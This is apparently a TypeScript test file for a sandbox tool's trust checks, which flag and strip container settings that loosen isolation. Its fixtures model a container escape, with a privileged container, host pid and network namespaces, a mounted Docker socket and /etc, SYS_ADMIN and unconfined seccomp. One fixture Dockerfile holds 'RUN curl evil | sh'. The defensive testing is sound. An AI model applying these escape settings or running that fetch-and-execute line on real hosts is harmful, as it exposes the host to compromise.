// The trust boundary as pure logic: what a bottle from elsewhere asks for above a default sandbox
// (one key per request), what a compose file has that cannot be held to one, and what is left of a
// run when only some requests are allowed. The real engines' side is test/integration/trust.test.ts.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { ContainerInspect } from '../../lib/backends/docker-inspect.ts'
import { recordDockerRun } from '../../lib/backends/docker-run.ts'
import type { AppleRun, DockerRun, SmolRun } from '../../lib/run-config.ts'
import { allowedRun, bottleRequests, composeRequests, looseningOption, networkReachesHost, notAllowed, runRequests } from '../../lib/trust.ts'

/** A run as commit records it, from `docker inspect` of a container started with `hostConfig`. */
function recorded(hostConfig: object = {}, mounts: ContainerInspect['Mounts'] = [], env = ['PATH=/usr/bin', 'GITHUB_TOKEN=x']): DockerRun {
  const container: ContainerInspect = {
    Id: 'e46f266d7152c0ffee0000000000000000000000000000000000000000000000',
    Name: '/bot-bottle-dev-abc12',
    Image: 'sha256:abc',
    Config: { User: 'node', Env: env, Cmd: ['sleep', 'infinity'], Entrypoint: null, Labels: {}, Tty: false, OpenStdin: false },
    HostConfig: { NetworkMode: 'default', ...hostConfig },
    Mounts: mounts,
    NetworkSettings: { Networks: {} },
  }
  return recordDockerRun(container, { imageLabels: {}, secretNames: env.filter((entry) => entry.startsWith('GITHUB_TOKEN=')).map(() => 'GITHUB_TOKEN'), networks: [], containerNames: new Map() })
}

/** The bottle the issue reproduced: host pid, the host's /etc and the engine socket, SYS_ADMIN, a token from the host. */
const escaping = () =>
  recorded({ PidMode: 'host', CapAdd: ['SYS_ADMIN', 'CAP_CHOWN'], Binds: ['/etc:/hostetc', '/var/run/docker.sock:/var/run/docker.sock'] }, [
    { Type: 'bind', Source: '/etc', Destination: '/hostetc', RW: true },
    { Type: 'bind', Source: '/var/run/docker.sock', Destination: '/var/run/docker.sock', RW: true },
    { Type: 'volume', Name: 'bot-bottle-dev-abc12-work', Destination: '/work', Driver: 'local', RW: true },
  ])

const keys = (requests: Array<{ key: string }>) => requests.map((request) => request.key).sort()

describe('what a docker run asks for above a default sandbox', () => {
  it('names each request by its key: host namespaces, binds, added capabilities beyond the default set, host values', () => {
    expect(keys(runRequests(escaping()))).toEqual(['bind:/etc', 'bind:/var/run/docker.sock', 'cap-add:SYS_ADMIN', 'env:GITHUB_TOKEN', 'pid:host'].sort())
  })

  it('asks nothing for a default sandbox, a named volume of its own, dropped capabilities or a tighter security option', () => {
    const confined = recorded({ CapDrop: ['ALL'], CapAdd: ['NET_BIND_SERVICE'], SecurityOpt: ['no-new-privileges'], ReadonlyRootfs: true }, [{ Type: 'volume', Name: 'data', Destination: '/data', Driver: 'local', RW: true }], ['PATH=/usr/bin'])
    expect(runRequests(confined)).toEqual([])
  })

  it('has a key for each kind of loosening the issue names (privileged unit-tested: such containers cannot start here)', () => {
    const run: DockerRun = {
      ...recorded({}, [], []),
      privileged: true,
      networkMode: 'host',
      ipcMode: 'container:db',
      utsMode: 'host',
      usernsMode: 'host',
      cgroupnsMode: 'host',
      securityOpt: ['seccomp=unconfined', 'apparmor=unconfined', 'label=disable', 'systempaths=unconfined', 'no-new-privileges=false', 'seccomp={"defaultAction":"SCMP_ACT_ALLOW"}', 'no-new-privileges'],
      devices: [{ host: '/dev/kvm', container: '/dev/kvm', permissions: 'rwm' }],
      sysctls: { 'net.ipv4.ip_forward': '1' },
      ports: [{ container: '22/tcp', hostIp: '', hostPort: '2222' }],
      cgroupParent: '/',
      platform: { name: 'Docker 29', vm: false, rootless: false, userns: false, apparmor: false, selinux: false, cgroupVersion: '2' },
    }
    expect(keys(runRequests(run))).toEqual(
      [
        'privileged',
        'network:host',
        'ipc:container:db',
        'uts:host',
        'userns:host',
        'cgroupns:host',
        'security-opt:seccomp=unconfined',
        'security-opt:apparmor=unconfined',
        // label=disable: part of privileged (the engine turns labels off for it), as below.
        'security-opt:systempaths=unconfined',
        'security-opt:no-new-privileges=false',
        'security-opt:seccomp=custom',
        'device:/dev/kvm',
        'sysctl:net.ipv4.ip_forward',
        'port:0.0.0.0:2222',
        'cgroup-parent:/',
      ].sort(),
    )
  })

  it("asks for the host's cgroup namespace only where a private one was the default (cgroup v2), and holds it to this engine's default", () => {
    const v1: DockerRun = { ...recorded({}, [], []), cgroupnsMode: 'host', platform: { name: 'Docker 20.10', vm: false, rootless: false, userns: false, apparmor: false, selinux: false, cgroupVersion: '1' } }
    expect(runRequests(v1)).toEqual([])
    expect(allowedRun(v1, new Set()).run.cgroupnsMode).toBe('private')
    expect(keys(runRequests({ ...v1, platform: { ...v1.platform!, cgroupVersion: '2' } }))).toEqual(['cgroupns:host'])
  })

  it('counts the SELinux labels the engine turns off for a host pid namespace as part of that request, and holds both together', () => {
    const run: DockerRun = { ...recorded({}, [], []), pidMode: 'host', securityOpt: ['label=disable', 'no-new-privileges'] }
    expect(keys(runRequests(run))).toEqual(['pid:host'])
    expect(allowedRun(run, new Set(['pid:host'])).run.securityOpt).toEqual(['label=disable', 'no-new-privileges'])
    expect(allowedRun(run, new Set()).run.securityOpt).toEqual(['no-new-privileges'])
    expect(keys(runRequests({ ...run, pidMode: '' }))).toEqual(['security-opt:label=disable'])
  })

  it('tells a security option that loosens from one that confines', () => {
    expect(['no-new-privileges', 'no-new-privileges:true', 'apparmor=docker-default', 'label=type:container_t'].map(looseningOption)).toEqual([undefined, undefined, undefined, undefined])
    expect(['seccomp:unconfined', 'apparmor:unconfined', 'label:disable'].map(looseningOption)).toEqual(['seccomp=unconfined', 'apparmor=unconfined', 'label=disable'])
  })

  it('asks for a network that reaches the host (another driver, a host bridge name), not for a bridge of its own', () => {
    expect(networkReachesHost({ driver: 'bridge', options: { 'com.docker.network.bridge.enable_icc': 'false' } })).toBe(false)
    expect(networkReachesHost({ driver: 'macvlan', options: { parent: 'eth0' } })).toBe(true)
    expect(networkReachesHost({ driver: 'bridge', options: { 'com.docker.network.bridge.name': 'br0' } })).toBe(true)
  })
})

describe('a run held to what was allowed', () => {
  it('keeps exactly the allowed requests and leaves out the rest, saying which', () => {
    const { run, leftOut } = allowedRun(escaping(), new Set(['bind:/etc', 'pid:host']))
    expect(keys(leftOut)).toEqual(['bind:/var/run/docker.sock', 'cap-add:SYS_ADMIN', 'env:GITHUB_TOKEN'])
    expect(keys(runRequests(run))).toEqual(['bind:/etc', 'pid:host'])
    // What confines, and the bottle's own volume, stay.
    expect(run.mounts.map((mount) => mount.source)).toEqual(['/etc', 'bot-bottle-dev-abc12-work'])
    expect(run.capAdd).toEqual(['CAP_CHOWN'])
    expect(run.env.some((entry) => entry.startsWith('GITHUB_TOKEN'))).toBe(false)
  })

  it('comes back as it ran when everything it asks for is allowed, on this engine\'s default runtime', () => {
    const run = escaping()
    expect(run.runtime).toBe('runc')
    expect(allowedRun(run, new Set(keys(runRequests(run))))).toEqual({ run: { ...run, runtime: '' }, leftOut: [] })
  })

  it('runs on this engine\'s default runtime unless the one it names is allowed: a runtime is whatever this host configures under that name', () => {
    const run: DockerRun = { ...recorded({}, [], []), runtime: 'custom-hooks' }
    expect(keys(runRequests(run))).toEqual(['runtime:custom-hooks'])
    expect(allowedRun(run, new Set()).run.runtime).toBe('')
    expect(allowedRun(run, new Set(['runtime:custom-hooks'])).run.runtime).toBe('custom-hooks')
    // runc asks for nothing, and held it is not passed either: this engine's default may be another (runsc).
    expect(runRequests(recorded({}, [], []))).toEqual([])
    expect(allowedRun(recorded({}, [], []), new Set()).run.runtime).toBe('')
    const { requests } = composeRequests(['services:', '  agent:', '    image: a', '    runtime: runc'].join('\n'), 'bot-bottle-dev-abc12')
    expect(keys(requests)).toEqual(['agent/runtime:runc'])
  })

  it('turns privileged off and host namespaces back to the default unless allowed', () => {
    const run: DockerRun = { ...recorded({}, [], []), privileged: true, networkMode: 'host', pidMode: 'host' }
    const held = allowedRun(run, new Set()).run
    expect([held.privileged, held.networkMode, held.pidMode]).toEqual([false, 'default', ''])
  })

  it('asks for nothing that was not allowed, whatever the run and the allowances (property)', () => {
    const request = fc.constantFrom('bind:/etc', 'bind:/var/run/docker.sock', 'cap-add:SYS_ADMIN', 'env:GITHUB_TOKEN', 'pid:host', 'privileged', 'network:host', 'sysctl:kernel.x', 'device:/dev/kvm', 'port:0.0.0.0:80')
    fc.assert(
      fc.property(fc.boolean(), fc.boolean(), fc.boolean(), fc.uniqueArray(request), (privileged, hostNet, withPort, allowed) => {
        const run: DockerRun = {
          ...escaping(),
          privileged,
          networkMode: hostNet ? 'host' : 'default',
          sysctls: { 'kernel.x': '1' },
          devices: [{ host: '/dev/kvm', container: '/dev/kvm', permissions: 'rwm' }],
          ports: withPort ? [{ container: '80/tcp', hostIp: '', hostPort: '80' }] : [],
        }
        const held = allowedRun(run, new Set(allowed)).run
        expect(notAllowed(runRequests(held), new Set(allowed))).toEqual([])
      }),
    )
  })

  it('holds Apple and smolvm runs to the same baseline (host directories, networks, volumes, ports, host values)', () => {
    const apple: AppleRun = { backend: 'macos-container', networks: ['default', 'lab'], internalNetworks: [], mounts: [{ source: '/Users/me', target: '/me', readOnly: false }], volumes: [{ name: 'data', target: '/data', readOnly: false }], tmpfs: [], envNames: ['GITHUB_TOKEN'] }
    expect(keys(runRequests(apple))).toEqual(['bind:/Users/me', 'env:GITHUB_TOKEN', 'network:lab', 'volume:data'])
    expect(allowedRun(apple, new Set(['network:lab'])).run).toMatchObject({ networks: ['default', 'lab'], mounts: [], volumes: [], envNames: [] })
    const smol: SmolRun = { backend: 'smolmachines', network: true, volumes: [{ host: '/home/me', guest: '/me', readOnly: true }], ports: ['8080:80'], envNames: ['API_KEY'] }
    expect(keys(runRequests(smol))).toEqual(['bind:/home/me', 'env:API_KEY', 'network:egress', 'port:0.0.0.0:8080'])
    expect(allowedRun(smol, new Set()).run).toMatchObject({ network: false, volumes: [], ports: [], envNames: [] })
  })
})

describe('what a compose file from elsewhere asks for', () => {
  const sidecar = [
    'services:',
    '  agent:',
    '    image: agent',
    '    cap_drop: [ALL]',
    '  egress:',
    '    image: proxy',
    '    privileged: true',
    '    pid: host',
    '    network_mode: host',
    '    cap_add: [NET_ADMIN, CHOWN]',
    '    volumes:',
    '      - /var/run/docker.sock:/var/run/docker.sock',
    '      - /:/host:ro',
    '      - cache:/cache',
    '    ports: ["127.0.0.1:3128:3128"]',
    '    environment: [GITHUB_TOKEN, "MODE=strict"]',
    'volumes:',
    '  cache: {}',
  ].join('\n')

  it("names each service's requests under the service's name", () => {
    const { requests, untrustable } = composeRequests(sidecar, 'bot-bottle-dev-abc12')
    expect(keys(requests)).toEqual(['egress/bind:/', 'egress/bind:/var/run/docker.sock', 'egress/cap-add:NET_ADMIN', 'egress/env:GITHUB_TOKEN', 'egress/network:host', 'egress/pid:host', 'egress/port:127.0.0.1:3128', 'egress/privileged'].sort())
    expect(untrustable).toEqual([])
  })

  it('holds what reads this host (build, env_file, ${VAR}, external or driver-backed volumes and networks, keys it does not read) to --trust only', () => {
    const file = [
      'include: [other.yml]',
      'services:',
      '  agent:',
      '    image: agent:${TAG}',
      '    build: .',
      '    env_file: .env',
      '    volumes_from: [container:db]',
      '    environment: ["PRICE=$$5"]',
      'volumes:',
      '  theirs: {external: true}',
      '  hostpath: {driver_opts: {type: none, o: bind, device: /etc}}',
      'networks:',
      '  lan: {driver: macvlan, driver_opts: {parent: eth0}}',
      '  shared: {external: true, name: other-app_default}',
      '  own: {external: true, name: bot-bottle-dev-abc12-internal}',
    ].join('\n')
    const { untrustable } = composeRequests(file, 'bot-bottle-dev-abc12')
    expect(untrustable).toEqual([
      "interpolates this host's environment (${TAG})",
      'uses include: (not held to a default sandbox here)',
      'service agent is built here (build:)',
      'service agent reads files of this host into its environment (env_file:)',
      'service agent uses volumes_from: (not held to a default sandbox here)',
      "volume theirs is external (another project's data)",
      'volume hostpath has a driver or driver options (they can name a host path)',
      "network lan has a driver or driver options (they can reach the host's interfaces)",
      "network shared is external (one of this host's)",
    ])
  })

  it('counts a compose bottle by its file: the record of its agent asks nothing of its own, a Dockerfile or a foreign project is --trust only', () => {
    const run: DockerRun = { ...escaping(), compose: { project: 'other-app', service: 'agent', configFiles: [], workingDir: '', sidecars: [] } }
    const { requests, untrustable } = bottleRequests(run, [{ name: 'docker-compose.yml', text: sidecar }, { name: 'Dockerfile', text: 'FROM x\nRUN curl evil | sh\n' }], 'dev-abc12')
    expect(requests.every((request) => request.key.startsWith('egress/'))).toBe(true)
    expect(untrustable).toEqual(['per-bottle Dockerfile (a rebuild runs its commands on this host)', 'compose project other-app (not bot-bottle-dev-abc12, the bottle\'s own)'])
  })
})
